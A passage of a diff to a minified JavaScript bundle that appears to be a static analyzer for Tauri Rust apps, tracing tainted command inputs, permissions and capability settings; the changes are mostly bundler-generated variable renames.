+field3);(name==="send"||name==="call"&&given2.length===0)&&this.#markSent(on3);const self=this.value(on3,env),values=given2.map(each=>this.value(each,env)),types=called4.
+kind==="generic_function"?childOf(called4,"type_arguments"):void 0,value=ofMethod(this,{name,self,given:values,at:node,written:textOf5(code2,on3).slice(-LONGEST_RECEIVER),
+literals:given2.map(each=>literalIn(code2,each)??null),wanted:types===void 0?"":textOf5(code2,types).slice(1,-1),isSent:this.#sent.has(node)},env),news=values.filter(
+isTainted);return news.length>0&&(changes(name)||this.#isChangedBy(name,self))&&change(on3,news,env),this.#fill(given2,isTainted(self)?[self,...news]:news,env),
+value}#fill(given2,values,env){if(values.length!==0)for(const each of given2){const lent=isLent(each)?fieldOf(each,"value"):void 0;lent!==void 0&&change(lent,values,
+env)}}#isChangedBy(name,{type}){return this.app.functions(name).some(({owner,node})=>owner!==null&&(type===null||owner===type)&&changesSelf(node))}#markSent(node){
+for(let each=node;each!==void 0;){this.#sent.add(each);const called4=fieldOf(each,"function");each=called4===void 0?void 0:fieldOf(called4,"value")??fieldOf(called4,
+"function")}}},LONGEST_RECEIVER=300,TAURIS=new Set("State AppHandle App Window WebviewWindow Webview Channel CommandScope GlobalScope".split(" ")),OF_TEXT=/^(?:u8|u16|u32|char)$/,
+PLAIN4=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|Ulid|Duration|DateTime|NaiveDate|NaiveDateTime|SystemTime|Instant|IpAddr|Ipv4Addr|Ipv6Addr|NonZero\w*|JavaScriptChannelId|LogicalSize|PhysicalSize|LogicalPosition|PhysicalPosition)$/,
+DEEPEST15=4;function parametersOf5(app,command2){const{file:file2,node}=command2,keeps=keepsNames(command2);return(fieldOf(node,"parameters")?.children??[]).flatMap(
 parameter=>{const[pattern,type]=[fieldOf(parameter,"pattern"),fieldOf(parameter,"type")];if(parameter.kind!=="parameter"||pattern===void 0||type===void 0)return[];
 if(isTauris2(app,file2,type))return[];const named12=textOf5(file2,pattern).replace(/^mut\s+/,""),name=keeps?named12.replace(/^_+/,""):camelCase(named12),value=valueIn2(
 app,file2,type,name,0),written6=textOf5(file2,type).replace(/\s+/g,"");return[{input:{name,type:written6,isText:value.from.size>0},pattern,type,value}]})}function isTauris2(app,file2,type){
@@ -6955,16 +7016,16 @@ return(file2.uses.get(first)??[path]).some(isOne)||app.aliases(path.at(-1)??"").
 file2,type),[used]=path.length===1?file2.uses.get(path[0]??"")??[]:[];return(used??path).at(-1)??""}function valueIn2(app,file2,type,source,depth){const text3=valueWith(
 {from:new Map([[source,new Set]])});if(depth>DEEPEST15)return text3;if(type.kind==="reference_type"){const inner=fieldOf(type,"type");return inner===void 0?text3:
 valueIn2(app,file2,inner,source,depth)}if(type.kind==="array_type"||type.kind==="slice_type"){const[inner]=type.children;return inner===void 0?EMPTY2:ofMany(app,
-file2,inner,source,depth)}if(type.kind==="tuple_type"){const parts=type.children.map(each=>valueIn2(app,file2,each,`${source}[]`,depth+1)),from=joined7(parts);return valueWith(
-{from,fields:new Map(parts.map((part,index)=>[String(index),part]))})}const name=typeName(file2,type);if(PLAIN4.test(name)&&app.types(name).length===0)return EMPTY2;
-const given2=childOf(type,"type_arguments")?.children.filter(({kind})=>kind!=="lifetime")??[],last=given2.at(-1);if(LISTS.has(name)&&last!==void 0)return ofMany(
-app,file2,last,source,depth);if(WRAPS.has(name)&&last!==void 0)return valueIn2(app,file2,last,source,depth+1);if(MAPS.has(name)&&last!==void 0)return text3;const declared3=app.
-types(name),[own]=declared3.filter(each=>each.file===file2).concat(declared3);if(own===void 0)return{...text3,type:name||null};const parameters=own.node.children.
-find(({kind})=>kind==="type_parameters")?.children.flatMap(each=>textOf5(own.file,each).replace(/[:=\s].*$/s,""))??[];return ofType(app,own,source,(inner,at2)=>{
-const position=parameters.filter(each=>!each.startsWith("'")).indexOf(textOf5(own.file,inner)),meant=given2[position];return meant===void 0?valueIn2(app,own.file,
-inner,at2,depth+1):valueIn2(app,file2,meant,at2,depth+1)},text3)}function ofMany(app,file2,inner,source,depth){return OF_TEXT.test(textOf5(file2,inner))?valueWith(
-{from:new Map([[source,new Set]])}):valueIn2(app,file2,inner,`${source}[]`,depth+1)}var LISTS=new Set(["Vec","VecDeque","HashSet","BTreeSet","IndexSet","SmallVe\
-c"]),WRAPS=new Set(["Option","Box","Arc","Rc","Cow","Json","Result"]),MAPS=new Set(["HashMap","BTreeMap","IndexMap"]);function ofType(app,own,source,of2,text3){
+file2,inner,source,depth)}if(type.kind==="tuple_type"){const parts2=type.children.map(each=>valueIn2(app,file2,each,`${source}[]`,depth+1)),from=joined7(parts2);
+return valueWith({from,fields:new Map(parts2.map((part,index)=>[String(index),part]))})}const name=typeName(file2,type);if(PLAIN4.test(name)&&app.types(name).length===
+0)return EMPTY2;const given2=childOf(type,"type_arguments")?.children.filter(({kind})=>kind!=="lifetime")??[],last=given2.at(-1);if(LISTS.has(name)&&last!==void 0)
+return ofMany(app,file2,last,source,depth);if(WRAPS.has(name)&&last!==void 0)return valueIn2(app,file2,last,source,depth+1);if(MAPS.has(name)&&last!==void 0)return text3;
+const declared3=app.types(name),[own]=declared3.filter(each=>each.file===file2).concat(declared3);if(own===void 0)return{...text3,type:name||null};const parameters=own.
+node.children.find(({kind})=>kind==="type_parameters")?.children.flatMap(each=>textOf5(own.file,each).replace(/[:=\s].*$/s,""))??[];return ofType(app,own,source,
+(inner,at2)=>{const position=parameters.filter(each=>!each.startsWith("'")).indexOf(textOf5(own.file,inner)),meant=given2[position];return meant===void 0?valueIn2(
+app,own.file,inner,at2,depth+1):valueIn2(app,file2,meant,at2,depth+1)},text3)}function ofMany(app,file2,inner,source,depth){return OF_TEXT.test(textOf5(file2,inner))?
+valueWith({from:new Map([[source,new Set]])}):valueIn2(app,file2,inner,`${source}[]`,depth+1)}var LISTS=new Set(["Vec","VecDeque","HashSet","BTreeSet","IndexSet",
+"SmallVec"]),WRAPS=new Set(["Option","Box","Arc","Rc","Cow","Json","Result"]),MAPS=new Set(["HashMap","BTreeMap","IndexMap"]);function ofType(app,own,source,of2,text3){
 const{node,file:file2,attributes:attributes2,name}=own;if(node.kind==="type_item"){const aliased=fieldOf(node,"type");return aliased===void 0?text3:of2(aliased,
 source)}const body=fieldOf(node,"body");if(body===void 0||!isFromPages(app,own))return EMPTY2;if(node.kind==="enum_item")return ofEnum(body,source,of2);if(body.
 kind==="ordered_field_declaration_list"){const types=body.children.filter(({field:field3})=>field3==="type"),[only2]=types;return only2!==void 0&&types.length===
@@ -6985,7 +7046,7 @@ app,command2,work,side);grant2!==null&&grants.push(grant2),gaps.push(...unknown3
 app,each,work,side);grants.push(grant2),gaps.push(...unknown3)}}catch(error){if(!(error instanceof OutOfWork))throw error;gaps.push(outOfSteps(project))}return{
 grants,gaps:[...gaps,...unreadFiles(app,touched)]}}function commandOf2(app,{name,functions:functions2,registration},work,side){const[first]=functions2;if(first===
 void 0){const place=placeIn(registration.code,registration.node);return{grant:null,gaps:[notFound(name,place)]}}const walks=functions2.map(each=>{const spend=()=>{
-work.spend(1)},walk2=new Walk(app,spend,side),parameters=parametersOf4(app,each);walk2.run(each,new Map(parameters.map(({pattern,value})=>[pattern,value])));for(const{
+work.spend(1)},walk2=new Walk(app,spend,side),parameters=parametersOf5(app,each);walk2.run(each,new Map(parameters.map(({pattern,value})=>[pattern,value])));for(const{
 input,type}of parameters)for(const conversion of conversionsOf(app,each.file,type))walk2.convert(conversion,input.name);return{parameters,walk:walk2,function:each}}),
 grant2={domain:"commands",kind:"command",door:"command",command:name,inputs:(walks[0]?.parameters??[]).map(({input})=>input),flows:walks.flatMap(each=>[...each.
 walk.reached.values()].map(reached5=>flowOf(reached5,each))),callers:"own-pages",at:placeIn(first.file,fieldOf(first.node,"name")??first.node)};return{grant:grant2,
@@ -7063,7 +7124,7 @@ return to}function isUnconditional(source,{attributes:attributes2}){return areRe
 w","clone","into","to_owned","to_string","to_vec"]);function withoutConversions(expression){let found12=expression;for(;found12.kind==="method"&&SAME2.has(found12.
 name)&&found12.arguments.length===0;)found12=found12.on;const[only2,...others]=found12.kind==="call"?found12.arguments:[];return found12.kind==="call"&&/^(?:String|Vec)::from$/.
 test(found12.path.slice(-2).join("::"))&&only2!==void 0&&others.length===0?withoutConversions(only2):found12}function textOf6(expression){const found12=expression&&
-withoutConversions(expression);return found12?.kind==="text"?{value:found12.value,span:found12.span}:void 0}function textsOf2(expression){const found12=expression&&
+withoutConversions(expression);return found12?.kind==="text"?{value:found12.value,span:found12.span}:void 0}function textsOf3(expression){const found12=expression&&
 withoutConversions(expression);if(found12?.kind!=="list")return;const texts2=found12.items.map(textOf6);return texts2.every(text3=>text3!==void 0)?texts2:void 0}
 function chainOf2(expression){const methods2=[];let root=expression;for(;root.kind==="method";root=root.on)methods2.push(root);return{root,methods:methods2.reverse()}}
 var APP={kind:"app",commands:[],permissionsPattern:void 0},PLUGIN={kind:"plugin",commands:[],default:void 0,permissionsPattern:void 0},CONTEXT={kind:"context",capabilities:[],
@@ -7072,14 +7133,14 @@ configuration:null},ATTRIBUTES={kind:"attributes",capabilitiesPattern:void 0,con
 dPlugin::new":PLUGIN,"InlinedPlugin::default":PLUGIN,"WindowsAttributes::new":{kind:"other"},"WindowsAttributes::new_without_app_manifest":{kind:"other"},"Windo\
 wsAttributes::default":{kind:"other"}};function buildValue(expression,scope){const{root,methods:methods2}=chainOf2(expression),made2=root.kind==="call"?MADE[scope.
 names(root.path)??""]:void 0;let value=made2!==void 0&&root.kind==="call"&&root.arguments.length===0?made2:scope.valueOf(root);for(const{name,arguments:given2}of methods2)
-value=value&&called(value,name,given2,scope);return value}function called(value,method,given2,scope){if(method==="clone"&&given2.length===0)return value;switch(value.
+value=value&&called2(value,name,given2,scope);return value}function called2(value,method,given2,scope){if(method==="clone"&&given2.length===0)return value;switch(value.
 kind){case"app":return declaring(value,method,given2,scope);case"plugin":return method==="default_permission"?withDefault(value,given2,scope):declaring(value,method,
 given2,scope);case"context":return context(value,method,given2,scope);case"attributes":return attributes(value,method,given2,scope);case"other":return value}}function declaring(value,method,[
-only2,...others],scope){if(only2===void 0||others.length>0)return null;const texts2=method==="commands"?textsOf2(scope.written(only2)):void 0;if(texts2!==void 0)
+only2,...others],scope){if(only2===void 0||others.length>0)return null;const texts2=method==="commands"?textsOf3(scope.written(only2)):void 0;if(texts2!==void 0)
 return{...value,commands:texts2.map(text3=>given(text3,scope))};const pattern=method==="permissions_path_pattern"?textOf6(scope.written(only2)):void 0;return pattern===
 void 0?null:{...value,permissionsPattern:pattern.value}}function withDefault(value,[only2,...others],scope){if(only2===void 0||others.length>0)return null;const rule=scope.
 written(only2),name=rule.kind==="name"||rule.kind==="call"?scope.names(rule.path):null;if(rule.kind==="name"&&name==="DefaultPermissionRule::AllowAllCommands")return{
-...value,default:null};const[list,...rest2]=rule.kind==="call"?rule.arguments:[],texts2=list===void 0?void 0:textsOf2(scope.written(list));return name!=="Defaul\
+...value,default:null};const[list,...rest2]=rule.kind==="call"?rule.arguments:[],texts2=list===void 0?void 0:textsOf3(scope.written(list));return name!=="Defaul\
 tPermissionRule::Allow"||texts2===void 0||rest2.length>0?null:{...value,default:texts2.map(text3=>given(text3,scope))}}function context(value,method,[only2,...others],scope){
 if(only2===void 0||others.length>0)return null;if(method==="out_file")return value;const path=pathOf2(only2,scope);return path===void 0?null:method==="capabilit\
 y"?{...value,capabilities:[...value.capabilities,path]}:method==="config_path"?{...value,configuration:path}:null}function attributes(value,method,arguments_,scope){
@@ -7109,8 +7170,8 @@ void 0?isInAll&&this.#run(helper):!declares&&!this.#touches(statement)&&!(this.#
 source;return isMark(tokens[from+1],"=")&&this.#variables.has(tokens[from]?.text??"")}#declaration(statement,isInAll,declares){const{source}=this.#file,{tokens}=source,
 {from,to}=statement,isLet=isKeyword(tokens[from],"let"),isMutable=!isLet||isKeyword(tokens[from+1],"mut"),at2=isLet?from+(isMutable?2:1):from,equals=indexOfMark(
 tokens,"=",statement),name=tokens[at2]?.text??"";if(!(tokens[at2]?.kind==="word"&&(equals===at2+1||isMark(tokens[at2+1],":")))||equals<0)return!declares&&!this.#touches(
-statement);const expression=expressionIn(source,{from:equals+1,to}),value=buildValue(expression,this.#scope);if(!isInAll){const before2=this.#variables.get(name)?.
-value??null,isSame10=JSON.stringify(said(before2))===JSON.stringify(said(value));if(declares||this.#touches(statement)&&!isSame10)return!1;if(isSame10)return!0}
+statement);const expression=expressionIn(source,{from:equals+1,to}),value=buildValue(expression,this.#scope);if(!isInAll){const before3=this.#variables.get(name)?.
+value??null,isSame10=JSON.stringify(said(before3))===JSON.stringify(said(value));if(declares||this.#touches(statement)&&!isSame10)return!1;if(isSame10)return!0}
 return value===null&&(declares||this.#touches(statement))?!1:(this.#follow(statement),this.#variables.set(name,{expression,value,isMutable}),!0)}#callIn(statement){
 const{source}=this.#file,{tokens}=source;let start=this.#call;for(;isMark(tokens[start-1],"::");)start-=tokens[start-2]?.kind==="word"?2:1;const isTop=start>=statement.
 from&&tokens[start]?.parent===tokens[statement.from]?.parent,open=this.#call+1;if(!isTop||this.#result!==null||!isOpen(tokens[open],"(")||!BEFORE_CALL.test(writtenOf(
@@ -7153,8 +7214,8 @@ parent??-1,end=statementEnd({tokens},at2,body.to);if(open<body.from||!isOpen(tok
 "and_then filter filter_map find_map flat_map fold for_each inspect map map_or map_or_else retain take_while then try_fold try_for_each unwrap_or_else".split(" "));
 function closureThatBinds({source:{tokens}},from,index,name){for(let at2=index-1;at2>from;at2-=1){if(!isMark(tokens[at2],"|")||!opensClosure({tokens},at2,name))
 continue;const first=isKeyword(tokens[at2-1],"move")?at2-1:at2,method=tokens[first-2];return isOpen(tokens[first-1],"(")&&method?.kind==="word"&&HANDS_ON4.has(method.
-text)?{kind:"parts",parts:[receiverOf({tokens},first-2)]}:{kind:"given"}}}function opensClosure({tokens},at2,name){const before2=tokens[at2-1],isFirst=before2?.
-kind==="open"||before2?.kind==="mark"&&[",","=","=>",";"].includes(before2.text)||["async","move","return"].includes(before2?.text??"");for(let end=at2+1;isFirst&&
+text)?{kind:"parts",parts:[receiverOf({tokens},first-2)]}:{kind:"given"}}}function opensClosure({tokens},at2,name){const before3=tokens[at2-1],isFirst=before3?.
+kind==="open"||before3?.kind==="mark"&&[",","=","=>",";"].includes(before3.text)||["async","move","return"].includes(before3?.text??"");for(let end=at2+1;isFirst&&
 end<at2+LONGEST_PATTERN2&&!isMark(tokens[end],"|");end+=1)if(tokens[end]?.kind==="word"&&tokens[end]?.text===name)return!0;return!1}function receiverOf({tokens},method){
 const parent=tokens[method]?.parent??-1,to=method-1;let from=to;for(let at2=to-1;at2>parent;){const token2=tokens[at2];if(isMark(token2,";")||isMark(token2,",")||
 isMark(token2,"=")||isMark(token2,"=>")||token2?.kind==="close"&&token2.text==="}")break;from=token2?.kind==="close"?token2.partner:at2,at2=from-1}return{from,to}}
@@ -7177,11 +7238,11 @@ isMark(tokens[at2-1],"."),isUsed=isMark(tokens[at2+1],"::")||isOpen(tokens[at2+1
 imports.find(each=>each.as===name)?.path[0];if(names4([name,"new"])===null&&!STANDARD.has(imported2??""))return!1}return!0}function scopeOf3({placeOf:placeOf12},names4){
 return{names:names4,placeOf:placeOf12,valueOf:()=>null,written:expression=>expression}}function chainAt({source:{tokens}},index){let from=index;for(;isMark(tokens[from-
 1],"::")&&tokens[from-2]?.kind==="word";)from-=2;let to=index+1;for(;isMark(tokens[to],"::")||isMark(tokens[to],".")||isOpen(tokens[to],"(");)to=isOpen(tokens[to],
-"(")?after(tokens,to):to+2;return{from,to}}function useOf({file:{source},index}){const{tokens}=source,before2=tokens[index-1];if(isKeyword(before2,"fn"))return{
+"(")?after(tokens,to):to+2;return{from,to}}function useOf({file:{source},index}){const{tokens}=source,before3=tokens[index-1];if(isKeyword(before3,"fn"))return{
 kind:"declared"};if(isImport(source.tokens,index))return{kind:isKeyword(tokens[index+1],"as")?"value":"declared"};if(isMark(tokens[index+1],"!"))return tokens[index+
 2]?.kind==="open"?{kind:"macro",open:index+2}:{kind:"value"};const open=(isMark(tokens[index+1],"::")&&isMark(tokens[index+2],"<")?afterAngles(tokens,index+2,tokens.
 length):index+1)??-1;if(!isOpen(tokens[open],"("))return{kind:"value"};const given2=argumentsAt(source,open).map(each=>expressionIn(source,each));return isMark(
-before2,".")?{kind:"method",open,arguments:given2}:{kind:"function",isQualified:isMark(before2,"::"),open,arguments:given2}}var LONGEST_IMPORT=1e3;function isImport(tokens,index){
+before3,".")?{kind:"method",open,arguments:given2}:{kind:"function",isQualified:isMark(before3,"::"),open,arguments:given2}}var LONGEST_IMPORT=1e3;function isImport(tokens,index){
 for(let at2=index-1;at2>=0&&at2>index-LONGEST_IMPORT;at2-=1){const token2=tokens[at2];if(isKeyword(token2,"use"))return!0;if(!(token2?.kind==="word"||["::",",",
 "*"].includes(token2?.text??"")||token2?.kind!=="mark"&&["{","}"].includes(token2?.text??"")))return!1}return!1}var RUNS3=new Set(["build","try_build"]),TYPES3=new Set(
 ["AppManifest","CodegenContext","InlinedPlugin"]),METHODS3=new Set(["capabilities_path_pattern","config_path","permissions_path_pattern","plugin","plugins"]);function buildMentions({
@@ -7250,12 +7311,12 @@ file:file2,part:attribute2}))}function isCondition({source:{tokens},groupsAt},in
 2]?.text==="cfg")}function functionInAttribute(tokens,index){const given2=tokens[index],outer=tokens[given2?.parent??-1]?.parent??-1,isInside2=isOpen(tokens[outer],
 "[")&&isMark(tokens[outer-1],"#"),isName2=isMark(tokens[index-1],"=")&&/^[a-z_][\w:]*$/.test(given2?.text??"");return isInside2&&isName2?given2?.text.split("::").
 at(-1):void 0}var TELLING2=/[/\\*@]|(?:^|\s)'|\.\w|:\S|^~|^\.{1,2}$|[%$]\w|(?:^|\s)(?:[a-z][\w+.-]*|[A-Z]):(?=[\s;]|$)/,PLACE2=/\{[^{}]*\}/g,SMALL=60;function isSmallValue(tokens,{
-from,to}){return to-from<=SMALL&&!isKeyword(tokens[from],"fn")}function tellingWords(tokens,{from,to}){const telling3=tokens.slice(from,to).flatMap(token2=>{const{
+from,to}){return to-from<=SMALL&&!isKeyword(tokens[from],"fn")}function tellingWords(tokens,{from,to}){const telling2=tokens.slice(from,to).flatMap(token2=>{const{
 kind,text:text3}=token2;return kind==="text"&&TELLING2.test(text3.replace(PLACE2,"Xx"))?[JSON.stringify(text3)]:isNumber(token2)&&to-from<=SMALL?[text3]:[]});return to-
-from<=SMALL&&telling3.length>0?[...telling3,[tokens[from+1]?.text,...telling3].join(" ")]:telling3}function isNumber(token2){return token2.kind==="number"||isKeyword(
+from<=SMALL&&telling2.length>0?[...telling2,[tokens[from+1]?.text,...telling2].join(" ")]:telling2}function isNumber(token2){return token2.kind==="number"||isKeyword(
 token2,"true")||isKeyword(token2,"false")}function isTraitItem({kind,file:file2,part}){return kind==="owner"&&isKeyword(file2.source.tokens[part.from],"trait")}
-var found7=new WeakMap;function foundOnce(index,question,name,find3){const known13=found7.get(index)??new Map;found7.set(index,known13);const parts=known13.get(
-`${question} ${name}`)??find3();return known13.set(`${question} ${name}`,parts),parts}var CHANGES_STATIC=/^(?:set|lock|write|store|swap|replace|insert|push|extend|with|with_borrow_mut|get_or_init|get_or_try_init|get_mut|try_lock|try_write|init|initialize|fetch_\w+)$/;
+var found7=new WeakMap;function foundOnce(index,question,name,find3){const known13=found7.get(index)??new Map;found7.set(index,known13);const parts2=known13.get(
+`${question} ${name}`)??find3();return known13.set(`${question} ${name}`,parts2),parts2}var CHANGES_STATIC=/^(?:set|lock|write|store|swap|replace|insert|push|extend|with|with_borrow_mut|get_or_init|get_or_try_init|get_mut|try_lock|try_write|init|initialize|fetch_\w+)$/;
 function changesOfStatic(mentions,name){return mentions(name).flatMap(({file:file2,index})=>{const{tokens}=file2.source,part={from:index,to:endOfStatement(tokens,
 index)},isCalled2=isMark(tokens[index+1],".")&&CHANGES_STATIC.test(tokens[index+2]?.text??""),isDeclared=isKeyword(tokens[index-1],"mut")&&isKeyword(tokens[index-
 2],"static");return isCalled2||isDeclared||isMark(tokens[index+1],"=")?[{file:file2,part}]:lentTo(file2,index)})}function lentTo(file2,index){const{tokens}=file2.
@@ -7277,9 +7338,9 @@ type"))return[{file:file2,part:{from,to:endOfStatement(tokens,index)}}];if(!isKe
 map(part=>({file:file2,part}));return!isKeyword(tokens[from],"enum")||open?.kind!=="open"?given2:tokens.slice(index+2,open.partner).some(token2=>isMark(token2,"\
 =")&&token2.parent===index+1)?[...given2,{file:file2,part:{from,to:open.partner+1}}]:given2})}function attributesInside({source:{tokens}},open){return isOpen(tokens[open],
 "{")?tokens.slice(open,tokens[open]?.partner).flatMap((token2,i2)=>isOpen(token2,"[")&&isMark(tokens[open+i2-1],"#")&&token2.parent===open?[{from:open+i2+1,to:token2.
-partner}]:[]):[]}function importsFor({items},name){const byName3=items.imports.filter(({as})=>as===name);return(byName3.length>0?byName3:items.imports.filter(({
+partner}]:[]):[]}function importsFor({items},name){const byName4=items.imports.filter(({as})=>as===name);return(byName4.length>0?byName4:items.imports.filter(({
 as})=>as==="*")).map(({path})=>path.join("::"))}function otherModules(mentions,name){return mentions(name).flatMap(({file:file2,index})=>{const{tokens}=file2.source,
-before2=tokens[index-1];if(isKeyword(before2,"as"))return importsFor(file2,name);const attribute2=isKeyword(before2,"mod")?tokens[index-2]:void 0,open=attribute2?.
+before3=tokens[index-1];if(isKeyword(before3,"as"))return importsFor(file2,name);const attribute2=isKeyword(before3,"mod")?tokens[index-2]:void 0,open=attribute2?.
 kind==="close"&&attribute2.text==="]"?attribute2.partner:index;return tokens.slice(open,index).map(({text:text3})=>text3)})}function includesGenerated(mentions){
 return mentions("include").some(({file:file2,index})=>{const open=file2.source.tokens[index+2];return!isMark(file2.source.tokens[index+1],"!")||open?.kind!=="op\
 en"?!1:file2.source.tokens.slice(index+3,open.partner).some(({text:text3})=>text3==="OUT_DIR")})}function settingsOfField(mentions,name){return mentions(name).flatMap(
@@ -7288,19 +7349,19 @@ index)))return[];let to=index+2;const isEnd=()=>isMark(tokens[to],",")||isMark(t
 tokens,to);return[{file:file2,part:{from:index,to}}]})}function callsOf(mentions,name){return mentions(name).filter(({file:file2,index})=>{const{tokens}=file2.source;
 return isOpen(tokens[index+1],"(")&&!isKeyword(tokens[index-1],"fn")})}function endOfStatement(tokens,index){let to=index;for(;to<tokens.length&&!isMark(tokens[to],
 ";")&&tokens[to]?.kind!=="close";)to=after(tokens,to);return to}var TELLS=/^(?:debug|e?println|error|info|trace|warn)$/,CRATES=/^(?:log|std|tracing)$/,PLAIN5=new Set(
-[",",".","&","%","?",":","::"]);function behindLogLine(tokens,at2,isOwn6){const before2=tokens[at2-1],begins=before2?.kind==="open"||before2?.text==="}"||isMark(
-before2,";"),name=CRATES.test(tokens[at2]?.text??"")&&isMark(tokens[at2+1],"::")?at2+2:at2,word2=tokens[name];if(!begins||word2?.kind!=="word"||!TELLS.test(word2.
+[",",".","&","%","?",":","::"]);function behindLogLine(tokens,at2,isOwn6){const before3=tokens[at2-1],begins=before3?.kind==="open"||before3?.text==="}"||isMark(
+before3,";"),name=CRATES.test(tokens[at2]?.text??"")&&isMark(tokens[at2+1],"::")?at2+2:at2,word2=tokens[name];if(!begins||word2?.kind!=="word"||!TELLS.test(word2.
 text)||isOwn6(word2.text))return null;const open=tokens[name+2];if(!isMark(tokens[name+1],"!")||open?.kind!=="open"||!isMark(tokens[open.partner+1],";"))return null;
 const told3=tokens.slice(name+3,open.partner);return told3.every(({kind,text:text3},i2)=>kind==="mark"?PLAIN5.has(text3)&&(!SIGILS.has(text3)||i2===0||isMark(told3[i2-
-1],",")):TOLD.has(kind)&&!(kind==="word"&&LEAVES2.has(text3)))?open.partner+2:null}var SIGILS=new Set(["?","%","&"]),LEAVES2=new Set(["return","break","continue",
-"await","yield"]),TOLD=new Set(["word","text","number"]);function unnamed({file:file2,part},work,isOwn6){const known13=new Map;return written2({file:file2,isOwn:isOwn6},
+1],",")):TOLD2.has(kind)&&!(kind==="word"&&LEAVES2.has(text3)))?open.partner+2:null}var SIGILS=new Set(["?","%","&"]),LEAVES2=new Set(["return","break","continu\
+e","await","yield"]),TOLD2=new Set(["word","text","number"]);function unnamed({file:file2,part},work,isOwn6){const known13=new Map;return written2({file:file2,isOwn:isOwn6},
 part.from,part.to,(at2,name)=>{const remembered3=known13.get(name);if(remembered3!==void 0)return remembered3;work.spend(at2);const found12=declared(file2,at2,name);
 return known13.set(name,found12),found12})}function declared(file2,at2,name){const binding=bindingOf(file2,at2,name);return binding===void 0?name:binding.kind===
 "given"?"given":binding.kind==="parameter"?`parameter ${binding.position}`:binding.parts.map(({from,to})=>written2({file:file2,isOwn:()=>!0},from,to,(_3,inner)=>inner===
-name?"_":inner)).join("|")}function written2({file:{source},isOwn:isOwn6},from,to,nameOf16){const{tokens}=source,words4=[];for(let at2=from;at2<to;at2+=1){const behind2=behindLogLine(
-tokens,at2,isOwn6);if(behind2!==null){at2=behind2-1;continue}const token2=tokens[at2],isVariable=token2?.kind==="word"&&/^[a-z_]/.test(token2.text)&&!KEYWORDS2.
+name?"_":inner)).join("|")}function written2({file:{source},isOwn:isOwn6},from,to,nameOf17){const{tokens}=source,words4=[];for(let at2=from;at2<to;at2+=1){const behind2=behindLogLine(
+tokens,at2,isOwn6);if(behind2!==null){at2=behind2-1;continue}const token2=tokens[at2],isVariable=token2?.kind==="word"&&/^[a-z_]/.test(token2.text)&&!KEYWORDS3.
 has(token2.text)&&!isMark(tokens[at2-1],".")&&!["::","!"].some(mark=>isMark(tokens[at2+1],mark))&&!isMark(tokens[at2-1],"::")&&!isOpen(tokens[at2+1],"(")&&!isKeyword(
-tokens[at2-1],"fn");words4.push(isVariable?nameOf16(at2,token2.text):writtenOf(source,{from:at2,to:at2+1}))}return words4.join(" ")}var KEYWORDS2=new Set("as as\
+tokens[at2-1],"fn");words4.push(isVariable?nameOf17(at2,token2.text):writtenOf(source,{from:at2,to:at2+1}))}return words4.join(" ")}var KEYWORDS3=new Set("as as\
 ync await break const continue dyn else enum false fn for if impl in let loop match mod move mut pub ref return self static struct super true type unsafe use wh\
 ere while".split(" ")),MOST_OF_A_NAME=100;function sliceOf(project,path,part){const code2=codeIndexOf(project),file2=code2.index.file(path);return file2===void 0?
 allCodeOf(project):new Slice(project,code2,DEEP).from({file:file2,part})}function conditionSliceOf(project,file2,part,isFixed2){return new Slice(project,codeIndexOf(
@@ -7310,9 +7371,9 @@ r","include_str"]),MOST_OWNERS=2,NEAR2=1,isFunction=({kind})=>kind==="function",
 index,work},extent){this.#extent=extent,this.#project=project,this.#index=index,this.#work=work}from(start){let isLost=!1;try{this.#add({...start,depth:-1,isWhole:!1},
 [start]);for(const step of this.#todo)this.#goesOn(step)&&this.#follow(step)}catch(error){if(!(error instanceof OutOfWork))throw error;isLost=!0}const{mayBeAll,
 full}=this.#extent,code2=isLost||this.#isEndless&&mayBeAll||this.#isCut&&full==="code"?codeOf3(this.#project):[...this.#written].sort();return(0,import_shared_acegos.wordsOf)(
-code2,[...this.#contents].sort())}#goesOn({depth}){const{few,tokens,parts,mayBeAll}=this.#extent,isNear=depth<=this.#extent.depth||this.#seen.size<=few,isFull=this.#tokens>
-tokens||this.#seen.size>parts;return isFull&&(this.#isCut=!0),isNear&&!isFull&&!(this.#isEndless&&mayBeAll)}#add(from,parts,isWhole3=!1){if(parts.length>MOST_OF_A_NAME)
-this.#isCut=!0;else for(const{file:file2,part}of parts)this.#addPart(from,{file:file2,part,depth:from.depth+1,isWhole:isWhole3})}#addPart(from,step){const{file:file2,
+code2,[...this.#contents].sort())}#goesOn({depth}){const{few,tokens,parts:parts2,mayBeAll}=this.#extent,isNear=depth<=this.#extent.depth||this.#seen.size<=few,isFull=this.#tokens>
+tokens||this.#seen.size>parts2;return isFull&&(this.#isCut=!0),isNear&&!isFull&&!(this.#isEndless&&mayBeAll)}#add(from,parts2,isWhole3=!1){if(parts2.length>MOST_OF_A_NAME)
+this.#isCut=!0;else for(const{file:file2,part}of parts2)this.#addPart(from,{file:file2,part,depth:from.depth+1,isWhole:isWhole3})}#addPart(from,step){const{file:file2,
 part}=step,isInside2=from.file===file2&&from.part.from<part.from&&part.to<from.part.to,name=`${file2.rust.file.path}\0${part.from}\0${part.to}`;isInside2||this.#seen.
 has(name)||(this.#seen.add(name),this.#tokens+=part.to-part.from,this.#work.spend(part.to-part.from),this.#write(step),this.#todo.push(step))}#write({file:file2,
 part,depth}){const{mayBeAll,whole:whole2}=this.#extent,{tokens}=file2.source;if(depth>whole2&&!isSmallValue(tokens,part))for(const word2 of tellingWords(tokens,
@@ -7320,12 +7381,12 @@ part))this.#written.add(word2);else this.#written.add(mayBeAll?writtenOf(file2.s
 const{file:file2,part}=step,{tokens}=file2.source;step.isWhole&&this.#add(step,conditionsBefore(step));for(let at2=part.from;at2<part.to;at2+=1){const token2=tokens[at2];
 token2?.kind==="text"?this.#text(step,at2,token2.text):token2?.kind==="word"&&!(NOWHERE4.has(token2.text)&&isKeyword(token2,token2.text))&&this.#name(step,at2,token2.
 text)}}#text(step,at2,text3){const{file:file2,depth}=step;this.#named(contentsNamed(this.#project,file2.rust,text3)),depth<=NEAR2&&/^var(?:_os)?$/.test(file2.source.
-tokens[at2-2]?.text??"")&&this.#add(step,setsVariable(this.#mentionsOf,text3));const called3=functionInAttribute(file2.source.tokens,at2);called3!==void 0&&this.#add(
-step,this.#declared(called3,isFunction),!0);for(const[,name=""]of text3.matchAll(/\{([A-Za-z_]\w*)(?=[:}])/g))this.#plain(step,at2,name,!0)}#named(contents){for(const{
